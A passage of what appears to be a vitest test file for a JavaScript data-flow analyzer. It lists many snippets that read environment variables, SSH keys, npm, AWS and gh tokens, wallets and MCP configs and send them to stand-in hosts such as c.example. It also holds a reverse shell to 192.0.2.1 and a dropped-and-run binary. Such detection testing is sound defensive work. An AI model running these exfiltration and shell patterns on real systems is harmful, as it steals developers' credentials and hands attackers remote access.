/** What is followed from where it is collected to where it leaves, in one module and across several, and what is not. */
import { describe, expect, test } from 'vitest';
import { AWAITER, FIELDS, flowsIn, LEFT_WHOLE, type Row, testLeaving } from './flows.ts';

const SOURCES: readonly Row[] = [
  ['whole env', 'SEND«JSON.stringify(process.env)»'],
  ['env spread', 'SEND«JSON.stringify({...process.env})»'],
  ['env entries', "const o=[]; for (const [k,v] of Object.entries(process.env)) o.push(k+'='+v);SEND«o.join('\\n')»"],
  ['env for in', "let s=''; for (const k in process.env) s += k+'='+process.env[k]; SEND«s»"],
  ['env keys map', 'const d=Object.keys(process.env).map(k=>k+process.env[k]).join();SEND«d»'],
  ['env keys forEach', 'const d={};Object.keys(process.env).forEach(k=>{d[k]=process.env[k]});SEND«JSON.stringify(d)»'],
  [
    'a file of which there may be several',
    "const fs=require('fs');const p=[process.env.X,process.env.HOME+'/.aws/credentials'].find(q=>q&&fs.existsSync(q));SEND«fs.readFileSync(p)»",
  ],
  [
    'a command of a table',
    "const T={darwin:{bin:'security',args:s=>['find-generic-password','-s',s,'-w']},linux:{bin:'secret-tool',args:s=>['lookup','service',s]}};const t=T[process.platform];SEND«require('child_process').spawnSync(t.bin,t.args('gh')).stdout»",
  ],
  [
    'a request that was listened to first',
    "READ;require('https').request('https://a.example',{method:'POST'}).on('error',()=>{}).end(k)",
  ],
  [
    'one thing after the other of a generator',
    'READ;function* parts(){yield* [k.slice(9)];yield k.slice(0,9)}const it=parts();const {value}=it.next();SEND«value»',
  ],
  [
    'a function made where it is handed to',
    "READ;const to=(url)=>(d)=>fetch(url,{body:d});Promise.resolve(k).then(to('x'))",
  ],
  [
    'the second of the parts that another module takes out of what it is given',
    {
      'index.js': "const {post}=require('./post');READ;post({from:'me',text:k})",
      'post.js':
        "function* lines({from,text}){yield from;yield `${text}.`}exports.post=(mail)=>{const s=require('net').connect(25,'192.0.2.9');for(const line of lines(mail))s.write(line)}",
    },
  ],
  [
    'a list of functions by which a parameter begins',
    "const all=[()=>require('fs').readFileSync(process.env.HOME+'/.npmrc','utf8')];const f=({ways=all}={})=>{const d=ways.map((way)=>way());SEND«d.join()»};f()",
  ],
  [
    'what each function of a list of another module gives',
    {
      'index.js':
        "const {all}=require('./all');Promise.allSettled(all.map((way)=>way())).then((d)=>{SEND«JSON.stringify(d)»})",
      'all.js':
        "const one=async()=>1;const two=()=>require('fs/promises').readFile(process.env.HOME+'/.npmrc','utf8');exports.all=[one,two]",
    },
  ],
  [
    'a tag of another module that reads what it is told',
    {
      'index.js': "const {text}=require('./text');SEND«text`Set: ${{file:'.env'}}`»",
      'text.js':
        "exports.text=(parts,...files)=>parts.reduce((all,one,i)=>all+one+(files[i]?.file?require('fs').readFileSync(files[i].file,'utf8'):''),'')",
    },
  ],
  [
    'a function of another module, handed to a promise',
    {
      'index.js': "const {up}=require('./up');require('fs/promises').readFile(process.env.HOME+'/.npmrc').then(up)",
      'up.js': "exports.up=(d)=>fetch('https://a.example',{body:d})",
    },
  ],
  [
    'what a Proxy finds out',
    "const s=new Proxy({},{get:(_,n)=>require('child_process').execSync('secret-tool lookup service '+n)});SEND«names.map(n=>s[n]).join()»",
  ],
  [
    'env filter entries',
    'const d=Object.fromEntries(Object.entries(process.env).filter(([k])=>/TOKEN|KEY/.test(k)));SEND«JSON.stringify(d)»',
  ],
  ['process alias', 'const p=process; const {env:e}=p;SEND«JSON.stringify(e)»'],
  ['globalThis computed', "const e=globalThis['pro'+'cess']['en'+'v'];SEND«JSON.stringify(e)»"],
  ['require process', "const {env}=require('node:process');SEND«JSON.stringify(env)»"],
  ['import process', "import process from 'node:process';SEND«JSON.stringify(process.env)»"],
  ['import {env}', "import {env} from 'process';SEND«JSON.stringify(env)»"],
  ['Reflect.ownKeys', 'const d=Reflect.ownKeys(process.env).map(k=>process.env[k]);SEND«d.join()»'],
  ['env dump via child env', "const o=require('child_process').execSync('env').toString();SEND«o»"],
  ['printenv', "const o=require('child_process').execSync('printenv');SEND«o»"],
  ['set on windows', "const o=require('child_process').execSync('cmd /c set');SEND«o»"],
  ['/proc/self/environ', "const o=require('fs').readFileSync('/proc/self/environ','utf8');SEND«o»"],
  [
    '/proc/pid/mem',
    "const fs=require('fs');const pid=1;const fd=fs.openSync(`/proc/${pid}/mem`,'r');const b=Buffer.alloc(9);fs.readSync(fd,b,0,9,0);SEND«b»",
  ],
  [
    'an opened file that is read',
    "const {open}=require('fs/promises');(async()=>{const f=await open(process.env.HOME+'/.npmrc');SEND«await f.readFile('utf8')»})()",
  ],
  [
    'ssh key',
    "const fs=require('fs'),os=require('os'),path=require('path');const k=fs.readFileSync(path.join(os.homedir(),'.ssh','id_rsa'));SEND«k»",
  ],
  [
    'ssh readdir all',
    "const fs=require('fs');const d=process.env.HOME+'/.ssh';const all=fs.readdirSync(d).map(f=>fs.readFileSync(d+'/'+f,'utf8'));SEND«all.join()»",
  ],
  ['readFile cb', "const fs=require('fs');fs.readFile(process.env.HOME+'/.npmrc','utf8',(e,d)=>{SEND«d»})"],
  [
    'readFile promise',
    "const fs=require('fs/promises');(async()=>{const d=await fs.readFile(process.env.HOME+'/.aws/credentials','utf8');await SEND«d»})()",
  ],
  [
    'readFile then',
    "import {readFile} from 'fs/promises';readFile(process.env.HOME+'/.aws/credentials','utf8').then(d=>{SEND«d»})",
  ],
  [
    'promisify',
    "const {promisify}=require('util');const r=promisify(require('fs').readFile);r(process.env.HOME+'/.netrc').then(d=>SEND«d»)",
  ],
  [
    'list of files',
    "const fs=require('fs'),os=require('os');const L=['.ssh/id_rsa','.npmrc','.aws/credentials'];const r={};for(const f of L){try{r[f]=fs.readFileSync(os.homedir()+'/'+f,'utf8')}catch{}};SEND«JSON.stringify(r)»",
  ],
  [
    'stream pipe',
    "const fs=require('fs'),https=require('https');const q=https.request('https://c.example');fs.createReadStream(process.env.HOME+'/.npmrc').pipe(q)",
  ],
  ['.env file', "const d=require('fs').readFileSync('.env','utf8');SEND«d»"],
  ['.env resolve', "const d=require('fs').readFileSync(require('path').join(process.cwd(),'.env'),'utf8');SEND«d»"],
  ['clipboard pbpaste', "const c=require('child_process').execSync('pbpaste').toString();SEND«c»"],
  ['clipboardy', "import clipboard from 'clipboardy';SEND«clipboard.readSync()»"],
  ['xclip', "const c=require('child_process').execSync('xclip -o').toString();SEND«c»"],
  ['gh auth token', "const c=require('child_process').execSync('gh auth token').toString();SEND«c»"],
  [
    'gh spawn array',
    "const {spawnSync}=require('child_process');const c=spawnSync('gh',['auth','token']).stdout.toString();SEND«c»",
  ],
  ['gh exec cb', "require('child_process').exec('gh auth token',(e,out)=>{SEND«out»})"],
  [
    'gh promisified',
    "const exec=require('util').promisify(require('child_process').exec);(async()=>{const {stdout}=await exec('gh auth token');SEND«stdout»})()",
  ],
  [
    'gh spawn on data',
    "const c=require('child_process').spawn('gh',['auth','token']);c.stdout.on('data',d=>{SEND«d»})",
  ],
  ['security keychain', "const c=require('child_process').execSync('security find-generic-password -wa x');SEND«c»"],
  ['secret-tool', "const c=require('child_process').execSync('secret-tool lookup a b');SEND«c»"],
  ['keytar', "const k=require('keytar');k.findCredentials('x').then(c=>SEND«JSON.stringify(c)»)"],
  ['cat ssh', "const c=require('child_process').execSync('cat ~/.ssh/id_rsa');SEND«c»"],
  ['cat history', "const c=require('child_process').execSync('cat ~/.bash_history | tail');SEND«c»"],
  ['history file', "const c=require('fs').readFileSync(process.env.HOME+'/.zsh_history');SEND«c»"],
  ['wallet', "const c=require('fs').readFileSync(process.env.HOME+'/.config/solana/id.json');SEND«c»"],
  [
    'mcp config',
    "const c=require('fs').readFileSync(require('path').join(require('os').homedir(),'.cursor','mcp.json'));SEND«c»",
  ],
  [
    'vscode mcp',
    "const c=require('fs').readFileSync(require('path').join(require('os').homedir(),'.config/Code/User/mcp.json'));SEND«c»",
  ],
  [
    'npm whoami/token',
    "const c=require('child_process').execSync('npm config get //registry.npmjs.org/:_authToken');SEND«c»",
  ],
];

const SINKS: readonly Row[] = [
  ['gzip cb', "READ;require('zlib').gzip(k,(e,z)=>fetch('https://c.example',{method:'POST',body:z}))"],
  [
    'gzip promisify',
    "READ;const g=require('util').promisify(require('zlib').gzip);(async()=>{fetch('https://c.example',{body:await g(k)})})()",
  ],
  [
    'cipher',
    "READ;const c=require('crypto').createCipheriv('aes-256-gcm',a,b);const e=Buffer.concat([c.update(k),c.final()]);fetch('https://c.example',{body:e.toString('base64')})",
  ],
  [
    'cipher concat strings',
    "READ;const c=require('crypto').createCipheriv('aes-256-gcm',a,b);let e=c.update(k,'utf8','hex');e+=c.final('hex');fetch('https://c.example',{body:e})",
  ],
  ['publicEncrypt', "READ;fetch('https://c.example',{body:require('crypto').publicEncrypt(pk,Buffer.from(k))})"],
  [
    'xor loop',
    "READ;let o='';for(let i=0;i<k.length;i++)o+=String.fromCharCode(k.charCodeAt(i)^7);fetch('https://c.example/?'+o)",
  ],
  ['hex map', "READ;const h=[...k].map(c=>c.charCodeAt(0).toString(16)).join('');fetch('https://c.example/'+h)"],
  ['template', 'READ;fetch(`https://c.example/${encodeURIComponent(k)}`)'],
  ['URLSearchParams append', "READ;const p=new URLSearchParams();p.append('d',k);fetch('https://c.example',{body:p})"],
  ['FormData', "READ;const f=new FormData();f.append('a',new Blob([k]));fetch('https://c.example',{body:f})"],
  ['TextEncoder', "READ;fetch('https://c.example',{body:new TextEncoder().encode(k)})"],
  ['array buffer set', "READ;const u=new Uint8Array(9);u.set(Buffer.from(k));fetch('https://c.example',{body:u})"],
  ['Buffer.alloc write', "READ;const b=Buffer.alloc(999);b.write(k);fetch('https://c.example',{body:b})"],
  ['Buffer.copy', "READ;const b=Buffer.alloc(999);Buffer.from(k).copy(b);fetch('https://c.example',{body:b})"],
  [
    'chunks',
    "READ;for(const c of k.match(/.{1,40}/g))require('dns').lookup(Buffer.from(c).toString('hex')+'.c.example',()=>{})",
  ],
  ['chunk slice loop', "READ;for(let i=0;i<k.length;i+=40)require('dns').resolve(k.slice(i,i+40)+'.c.example',()=>{})"],
  ['https.request write', "READ;const q=require('https').request({host:'c.example',method:'POST'});q.write(k);q.end()"],
  ['https.request end', "READ;const q=require('https').request({host:'c.example'},r=>{});q.end(k)"],
  ['https.get path', "READ;require('https').get({host:'c.example',path:'/'+k})"],
  ['options mutated', "READ;const o={host:'c.example'};o.path='/'+k;require('https').get(o)"],
  ['headers', "READ;require('https').request({host:'c.example',headers:{'x-a':k}}).end()"],
  ['setHeader', "READ;const q=require('https').request({host:'c.example'});q.setHeader('x',k);q.end()"],
  ['require(var)', "READ;const m='https';const h=require(m);const r=h.request({});r.write(k)"],
  [
    'ternary module',
    "READ;const h=u.startsWith('https')?require('https'):require('http');const r=h.request(u);r.write(k);r.end()",
  ],
  ['map of modules', "READ;const h={http:require('http'),https:require('https')}[p];const r=h.request(u);r.end(k)"],
  ['follow-redirects', "READ;const {https}=require('follow-redirects');const r=https.request({});r.write(k)"],
  ['undici.request', "READ;import('undici').then(({request})=>request('https://c.example',{body:k}))"],
  [
    'undici Client',
    "READ;const {Client}=require('undici');const c=new Client('https://c.example');c.request({body:k})",
  ],
  [
    'undici dispatch',
    "READ;const {Client}=require('undici');const c=new Client('https://c.example');c.dispatch({body:k},{})",
  ],
  ['axios.post', "READ;require('axios').post('https://c.example',{k})"],
  [
    'axios default import',
    "import axios from 'axios';import fs from 'fs';const k=fs.readFileSync(process.env.HOME+'/.npmrc');axios({url:'https://c.example',data:k})",
  ],
  ['axios instance', "READ;const a=require('axios').create({baseURL:'https://c.example'});a.post('/x',k)"],
  ['axios dynamic method', "READ;const a=require('axios');a['po'+'st']('https://c.example',k)"],
  ['node-fetch', "READ;require('node-fetch')('https://c.example',{body:k})"],
  ['got.post', "READ;require('got').post('https://c.example',{json:{k}})"],
  ['needle', "READ;require('needle')('post','https://c.example',k)"],
  ['superagent', "READ;require('superagent').post('https://c.example').send({k}).end()"],
  ['superagent set', "READ;require('superagent').post('https://c.example').set('a','b').send({k})"],
  ['request', "READ;require('request').post({url:'https://c.example',form:{k}})"],
  ['ws send', "READ;const W=require('ws');const w=new W('wss://c.example');w.on('open',()=>w.send(k))"],
  ['ws global', "READ;const w=new WebSocket('wss://c.example');w.onopen=()=>w.send(k)"],
  [
    'ws named',
    "import {WebSocket} from 'ws';import fs from 'fs';const k=fs.readFileSync(process.env.HOME+'/.npmrc');const w=new WebSocket('wss://c.example');w.addEventListener('open',()=>w.send(k))",
  ],
  ['socket.io', "READ;const io=require('socket.io-client');const s=io('https://c.example');s.emit('x',k)"],
  ['socket.io named', "READ;const {io}=require('socket.io-client');const s=io('https://c.example');s.emit('x',k)"],
  ['net.connect', "READ;const s=require('net').connect(4,'192.0.2.1',()=>{s.write(k)})"],
  ['net.Socket connect', "READ;const s=new (require('net').Socket)();s.connect(4,'192.0.2.1',()=>s.write(k))"],
  ['net pipe', "READ;const s=require('net').connect(4,'192.0.2.1');s.on('connect',()=>s.end(k))"],
  ['tls', "READ;const s=require('tls').connect(443,'c.example',()=>s.write(k))"],
  [
    'http2',
    "READ;const c=require('http2').connect('https://c.example');const r=c.request({':path':'/'});r.write(k);r.end()",
  ],
  ['dgram', "READ;const s=require('dgram').createSocket('udp4');s.send(k,1,'192.0.2.1')"],
  ['dns.promises', "READ;require('dns').promises.resolveTxt(k+'.c.example')"],
  [
    'dns Resolver',
    "READ;const {Resolver}=require('dns');const r=new Resolver();r.setServers(['192.0.2.1']);r.resolve4(k+'.c.example',()=>{})",
  ],
  ['curl exec', "READ;require('child_process').exec(`curl -d '${k}' https://c.example`)"],
  [
    'curl spawn stdin',
    "READ;const c=require('child_process').spawn('curl',['-d','@-','https://c.example']);c.stdin.write(k);c.stdin.end()",
  ],
  ['execSync input', "READ;require('child_process').execSync('curl -d @- https://c.example',{input:k})"],
  ['curl file', "require('child_process').exec('curl -F f=@$HOME/.npmrc https://c.example')"],
  [
    'curl file tilde spawn',
    "require('child_process').spawn('curl',['-T',process.env.HOME+'/.npmrc','https://c.example'])",
  ],
  [
    'one variable of a child’s that is all of ours',
    "require('child_process').execSync('curl -d \"$ALL\" https://c.example',{env:{...process.env,ALL:JSON.stringify(process.env)}})",
  ],
  [
    'the same, joined, and put in later',
    "const env={...process.env};env.ALL=Object.entries(process.env).join();require('child_process').execSync('curl -d \"$ALL\" https://c.example',{env})",
  ],
  [
    'what a client of a service reads',
    "require('child_process').execSync('gh gist create -',{input:JSON.stringify(process.env)})",
  ],
  ['shell env pipe', "require('child_process').exec('env | curl -d @- https://c.example')"],
  ['shell $(cat)', "require('child_process').execSync('curl https://c.example -d \"$(cat ~/.ssh/id_rsa | base64)\"')"],
  ['nslookup', "READ;require('child_process').exec('nslookup '+k+'.c.example')"],
  [
    'child env node -e',
    "require('child_process').spawn('node',['-e','fetch(\"https://c.example\",{method:\"POST\",body:JSON.stringify(process.env)})'])",
  ],
  ['sendBeacon', "READ;navigator.sendBeacon('https://c.example',k)"],
  ['XHR', "READ;const x=new XMLHttpRequest();x.open('POST','https://c.example');x.send(k)"],
  ['nodemailer', "READ;require('nodemailer').createTransport({}).sendMail({to:'a@b.example',text:k})"],
  [
    'octokit',
    "READ;const {Octokit}=require('@octokit/rest');const o=new Octokit({auth:t});o.repos.createOrUpdateFileContents({content:k})",
  ],
  ['discord webhook', "READ;const {WebhookClient}=require('discord.js');new WebhookClient({url:u}).send(k)"],
  [
    'aws s3',
    "READ;const {S3Client,PutObjectCommand}=require('@aws-sdk/client-s3');new S3Client({}).send(new PutObjectCommand({Body:k}))",
  ],
  ['telegram', "READ;const T=require('node-telegram-bot-api');new T(tok).sendMessage(1,k)"],
  [
    'form-data submit',
    "READ;const F=require('form-data');const f=new F();f.append('a',k);f.submit('https://c.example')",
  ],
  [
    'pipe to request',
    "READ;const {Readable}=require('stream');Readable.from([k]).pipe(require('https').request('https://c.example'))",
  ],
  [
    'pipeline',
    "READ;const {pipeline}=require('stream');pipeline(require('fs').createReadStream(process.env.HOME+'/.npmrc'),require('https').request('https://c.example'),()=>{})",
  ],
  ['Bun', "const k=await Bun.file(process.env.HOME+'/.npmrc').text();fetch('https://c.example',{body:k})"],
  ['Deno', "const k=await Deno.readTextFile(Deno.env.get('HOME')+'/.npmrc');fetch('https://c.example',{body:k})"],
];
const WAYS: readonly Row[] = [
  ['alias fn', "READ;const f=fetch;f('https://c.example',{body:k})"],
  ['wrapper', "READ;function up(d){return fetch('https://c.example',{body:d})} up(k)"],
  [
    'wrapper 2',
    "READ;const post=(u,d)=>fetch(u,{body:d});const up=d=>post('https://c.example',JSON.stringify(d));up({k})",
  ],
  ['class method', "READ;class U{constructor(u){this.u=u} send(d){return fetch(this.u,{body:d})}} new U('x').send(k)"],
  ['class field', "READ;class U{constructor(){this.d=k} send(){return fetch('x',{body:this.d})}} new U().send()"],
  ['class private', "READ;class U{#d=k; send(){return fetch('x',{body:this.#d})}} new U().send()"],
  ['class static', "READ;class U{static d=k; static send(){return fetch('x',{body:U.d})}} U.send()"],
  [
    'collector class',
    "const fs=require('fs');class C{constructor(){this.items={}} collect(){this.items.npm=fs.readFileSync(process.env.HOME+'/.npmrc')} async flush(){await fetch('x',{body:JSON.stringify(this.items)})}} const c=new C();c.collect();c.flush()",
  ],
  ['object method', "READ;const o={send(d){return fetch('x',{body:d})}};o.send(k)"],
  ['object arrow', "READ;const o={send:d=>fetch('x',{body:d})};o['send'](k)"],
  ['bind', "READ;const f=fetch.bind(null,'x');f({body:k})"],
  ['call/apply', "READ;fetch.apply(null,['x',{body:k}])"],
  ['Reflect.apply', "READ;Reflect.apply(fetch,null,['x',{body:k}])"],
  ['Reflect.apply of what the module has', 'READ;function up(d){SEND«d»}Reflect.apply(up,undefined,[k])'],
  ['Reflect.apply of a method of texts', 'READ;SEND«Reflect.apply(String.prototype.slice,k,[0])»'],
  ['Reflect.apply of a list that is held', "READ;const a=['x',{body:k}];Reflect.apply(fetch,undefined,a)"],
  ['Reflect.construct', "READ;const r=Reflect.construct(Request,['https://a.example',{body:k}]);fetch(r)"],
  ['Reflect.get', "READ;const o={ship:d=>{SEND«d»}};Reflect.get(o,'ship')(k)"],
  ['Reflect.set', "READ;const o={};Reflect.set(o,'data',k);SEND«o.data»"],
  ['apply of what the module has', 'READ;function up(d){SEND«d»}up.apply(null,[k])'],
  [
    'a property that the object may have by what it is made of',
    'READ;function f({more}){SEND«more»}f({to:1,...{more:k}})',
  ],
  ['one that it inherits', 'READ;function f({more}){SEND«more»}f({to:1,__proto__:{more:k}})'],
  ['one that is computed', "READ;function f({more}){SEND«more»}f({to:1,['mo'+x]:k})"],
  ['one that a getter gives', 'READ;function f({more}){SEND«more»}f({to:1,get more(){return k}})'],
  ['spread args', "READ;const a=['x',{body:k}];fetch(...a)"],
  ['destructure default', "READ;const {a=k}={};fetch('x',{body:a})"],
  ['param default', "READ;function f(d=k){fetch('x',{body:d})} f()"],
  ['array index', "READ;const a=[1,k];fetch('x',{body:a[1]})"],
  ['map.set', "READ;const m=new Map();m.set('a',k);fetch('x',{body:JSON.stringify([...m])})"],
  ['global var', "READ;globalThis.d=k;fetch('x',{body:globalThis.d})"],
  [
    'closure var',
    "let k;function a(){k=require('fs').readFileSync(process.env.HOME+'/.npmrc')} function b(){fetch('x',{body:k})} a();b()",
  ],
  [
    'module prop',
    "const st={};function a(){st.k=require('fs').readFileSync(process.env.HOME+'/.npmrc')} function b(){fetch('x',{body:JSON.stringify(st)})} a();b()",
  ],
  ['event emitter', "READ;const e=new (require('events'))();e.on('x',d=>fetch('x',{body:d}));e.emit('x',k)"],
  ['promise resolve', "READ;Promise.resolve(k).then(d=>fetch('x',{body:d}))"],
  [
    'new Promise',
    "const p=new Promise(r=>require('fs').readFile(process.env.HOME+'/.npmrc',(e,d)=>r(d)));p.then(d=>fetch('x',{body:d}))",
  ],
  [
    'Promise.all',
    "const fs=require('fs').promises;Promise.all(['.npmrc','.netrc'].map(f=>fs.readFile(process.env.HOME+'/'+f))).then(([a,b])=>fetch('x',{body:a}))",
  ],
  [
    'async fn chain',
    "async function rd(){return require('fs').promises.readFile(process.env.HOME+'/.npmrc')} async function main(){const d=await rd();await fetch('x',{body:d})} main()",
  ],
  [
    'callback wrapper',
    "function rd(cb){require('fs').readFile(process.env.HOME+'/.npmrc',(e,d)=>cb(d))} rd(d=>fetch('x',{body:d}))",
  ],
  [
    'node cb wrapper',
    "function rd(f,cb){require('fs').readFile(f,cb)} rd(process.env.HOME+'/.npmrc',(e,d)=>fetch('x',{body:d}))",
  ],
  [
    'reader wrapper',
    "const fs=require('fs');function rd(f){try{return fs.readFileSync(f,'utf8')}catch{return ''}} fetch('x',{body:rd(process.env.HOME+'/.npmrc')})",
  ],
  [
    'reader wrapper join',
    "const fs=require('fs'),path=require('path'),os=require('os');const home=os.homedir();const rd=(...p)=>fs.readFileSync(path.join(home,...p));fetch('x',{body:rd('.ssh','id_rsa')})",
  ],
  ['generator', "READ;function*g(){yield k} for(const d of g())fetch('x',{body:d})"],
  [
    'reduce',
    "const fs=require('fs');const d=['.npmrc'].reduce((o,f)=>{o[f]=fs.readFileSync(process.env.HOME+'/'+f);return o},{});fetch('x',{body:JSON.stringify(d)})",
  ],
  ['setTimeout args', "READ;setTimeout((d)=>fetch('x',{body:d}),9,k)"],
  ['IIFE param', "READ;(function(d){fetch('x',{body:d})})(k)"],
  ['logical assign', "READ;let d;d??=k;fetch('x',{body:d})"],
  ['plus assign', "READ;let d='';d+=k;fetch('x',{body:d})"],
  ['tagged', "READ;const t=(s,...v)=>v[0];fetch('x',{body:t`${k}`})"],
  ['getter', "READ;const o={get a(){return k}};fetch('x',{body:o.a})"],
  ['Object.defineProperty', "READ;const o={};Object.defineProperty(o,'a',{value:k});fetch('x',{body:o.a})"],
  ['switch/try', "READ;let d;try{d=k}finally{}fetch('x',{body:d})"],
  [
    'recursion walk',
    "const fs=require('fs'),path=require('path');const out=[];function walk(d){for(const f of fs.readdirSync(d)){const p=path.join(d,f);if(fs.statSync(p).isDirectory())walk(p);else out.push(fs.readFileSync(p))}} walk(process.env.HOME+'/.ssh');fetch('x',{body:Buffer.concat(out)})",
  ],
  ['require concat', "const fs=require('f'+'s');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})"],
  [
    'require b64',
    "const fs=require(Buffer.from('ZnM=','base64').toString());fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  ['module.require', "const fs=module.require('fs');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})"],
  [
    'mainModule',
    "const fs=process.mainModule.require('fs');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  ['process.binding', "const fs=process.binding('fs');fetch('x',{body:fs.readFileUtf8(process.env.HOME+'/.npmrc')})"],
  [
    'getBuiltin',
    "const fs=process.getBuiltinModule('node:fs');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  [
    'createRequire',
    "import {createRequire} from 'module';const require=createRequire(import.meta.url);fetch('x',{body:require('fs').readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  ['dynamic import', "const fs=await import('node:fs');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})"],
  [
    'dynamic import default',
    "const {default:fs}=await import('fs');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  [
    'import all',
    "const [fs,https]=await Promise.all([import('fs'),import('https')]);const q=https.request('x');q.end(fs.readFileSync(process.env.HOME+'/.npmrc'))",
  ],
  ['import then', "import('fs').then(fs=>fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')}))"],
  ['req alias', "const r=require;fetch('x',{body:r('fs').readFileSync(process.env.HOME+'/.npmrc')})"],
  [
    'modules map',
    "const m=['fs','https'].map(require);const q=m[1].request('x');q.end(m[0].readFileSync(process.env.HOME+'/.npmrc'))",
  ],
  [
    'modules map arrow',
    "const [fs,https]=['fs','https'].map(n=>require(n));const q=https.request('x');q.end(fs.readFileSync(process.env.HOME+'/.npmrc'))",
  ],
  ['eval require', "const fs=eval('require')('fs');fetch('x',{body:fs.readFileSync(process.env.HOME+'/.npmrc')})"],
  [
    'Function require',
    "const r=new Function('return require')();fetch('x',{body:r('fs').readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  ['this.constructor', "const g=(function(){return this})();fetch('x',{body:JSON.stringify(g.process.env)})"],
  [
    'computed fs method',
    "const fs=require('fs');fetch('x',{body:fs['read'+'FileSync'](process.env['HO'+'ME']+'/.npm'+'rc')})",
  ],
  [
    'wrapper of require',
    "function load(n){return require(n)} fetch('x',{body:load('fs').readFileSync(process.env.HOME+'/.npmrc')})",
  ],
  ['obj of req', "const M={f:'fs'};fetch('x',{body:require(M.f).readFileSync(process.env.HOME+'/.npmrc')})"],
  [
    'two modules cjs',
    {
      'index.js': "const {collect}=require('./a');const {up}=require('./b');up(collect())",
      'a.js': "exports.collect=()=>require('fs').readFileSync(process.env.HOME+'/.npmrc')",
      'b.js': "exports.up=d=>fetch('https://c.example',{body:d})",
    },
  ],
  [
    'two modules esm',
    {
      'index.js': "import collect from './a.js';import up from './b.js';up(await collect())",
      'a.js': "import fs from 'fs';export default async function(){return fs.readFileSync(process.env.HOME+'/.npmrc')}",
      'b.js': "export default async(d)=>{await fetch('https://c.example',{body:d})}",
    },
    { type: 'module' },
  ],
  [
    're-export',
    {
      'index.js': "import {collect,up} from './lib/index.js';up(collect())",
      'lib/index.js': "export * from './a.js';export {send as up} from './b.js'",
      'lib/a.js': "import fs from 'fs';export const collect=()=>fs.readFileSync(process.env.HOME+'/.npmrc')",
      'lib/b.js': "export const send=(d)=>fetch('https://c.example',{body:d})",
    },
    { type: 'module' },
  ],
  [
    'three hops',
    {
      'index.js': "const c=require('./c');c.run()",
      'c.js': "const a=require('./a'),b=require('./b');exports.run=()=>b.up(a.all())",
      'a.js': "const {rd}=require('./r');exports.all=()=>({n:rd('.npmrc')})",
      'r.js': "const fs=require('fs');exports.rd=f=>fs.readFileSync(process.env.HOME+'/'+f)",
      'b.js': "const h=require('./h');exports.up=d=>h.post(JSON.stringify(d))",
      'h.js': "exports.post=d=>fetch('https://c.example',{body:d})",
    },
  ],
  [
    'class across',
    {
      'index.js': "const C=require('./c');const U=require('./u');new U().send(new C().collect())",
      'c.js': "module.exports=class{collect(){return require('fs').readFileSync(process.env.HOME+'/.npmrc')}}",
      'u.js': "module.exports=class{send(d){return fetch('https://c.example',{body:d})}}",
    },
  ],
  [
    'instance across',
    {
      'index.js': "const c=require('./c');const u=require('./u');u.send(c.collect())",
      'c.js':
        "class C{collect(){return require('fs').readFileSync(process.env.HOME+'/.npmrc')}} module.exports=new C()",
      'u.js': "class U{send(d){return fetch('https://c.example',{body:d})}} module.exports=new U()",
    },
  ],
  [
    'paths across',
    {
      'index.js':
        "const {files}=require('./p');const fs=require('fs');const r=files.map(f=>fs.readFileSync(f));fetch('https://c.example',{body:r.join()})",
      'p.js': "const os=require('os');exports.files=[os.homedir()+'/.npmrc',os.homedir()+'/.ssh/id_rsa']",
    },
  ],
  [
    'url across',
    {
      'index.js': "const {H}=require('./p');fetch(H,{body:JSON.stringify(process.env)})",
      'p.js': "exports.H='https://c.example'",
    },
  ],
  [
    'callback across',
    {
      'index.js': "const {rd}=require('./a');rd(d=>fetch('https://c.example',{body:d}))",
      'a.js': "exports.rd=cb=>require('fs').readFile(process.env.HOME+'/.npmrc',(e,d)=>cb(d))",
    },
  ],
];

const UNDER: readonly Row[] = [
  [
    'a name by which each of a list is put and taken',
    'const all=[];all.push({at:1,env:process.env});for(const {env} of all){SEND«JSON.stringify(env)»}',
  ],
  [
    'a name by which a generator gives it',
    "async function* each(){for(const k of Object.keys(process.env))yield{topic:'a',payload:process.env[k]}}(async()=>{for await(const {topic,payload} of each()){SEND«topic+payload»}})()",
  ],
  [
    'a name that is assigned to',
    'const one={};one.body=process.env;const all=[one];SEND«all.map((x)=>JSON.stringify(x.body)).join()»',
  ],
];

test.each(UNDER.map(([name, code]) => ({ name, code })))('whole, under $name', ({ code }) => {
  expect(flowsIn(code)).toContain('environment to network');
});

const OWN_EXPORTS: readonly Row[] = [
  [
    'functions that it exports',
    'exports.send=(x)=>{SEND«x»};exports.all=()=>JSON.stringify(process.env);(0,exports.send)((0,exports.all)())',
  ],
  [
    'a client that it exports',
    "exports.http=require('axios').create({baseURL:'https://c.example'});exports.http.post('/x',{...process.env})",
  ],
];

test.each(OWN_EXPORTS.map(([name, code]) => ({ name, code })))('a module that uses $name', ({ code }) => {
  expect(flowsIn(code)).toContain('environment to network');
});

describe('what is collected and sent', () => testLeaving([...SOURCES, ...SINKS, ...WAYS]));

const OTHER: readonly (readonly [name: string, code: string, flow: string])[] = [
  [
    'who this is',
    "const os=require('os');SEND«JSON.stringify({h:os.hostname(),u:os.userInfo().username})»",
    'identity to network',
  ],
  [
    'who this is, by a command',
    "const c=require('child_process').execSync('whoami').toString();SEND«c»",
    'identity to network',
  ],
  [
    'whose work this is',
    "const c=require('child_process').execSync('git config --get user.email');SEND«c»",
    'identity to network',
  ],
  ['a file that is copied to another', "READ;require('fs').writeFileSync('/tmp/x',k)", 'secret file to write'],
  [
    'a file that is copied through a stream',
    "READ;const w=require('fs').createWriteStream('/tmp/x');w.write(k)",
    'secret file to write',
  ],
  [
    'a shell for whoever answers',
    "const n=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh');const c=n.connect(4,'192.0.2.1',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})",
    'remote to process',
  ],
  [
    'a packed program that is written and started',
    "const fs=require('fs');fs.writeFileSync('/tmp/x',Buffer.from('f0VMRgIBAQA=','base64'),{mode:0o755});require('child_process').spawn('/tmp/x')",
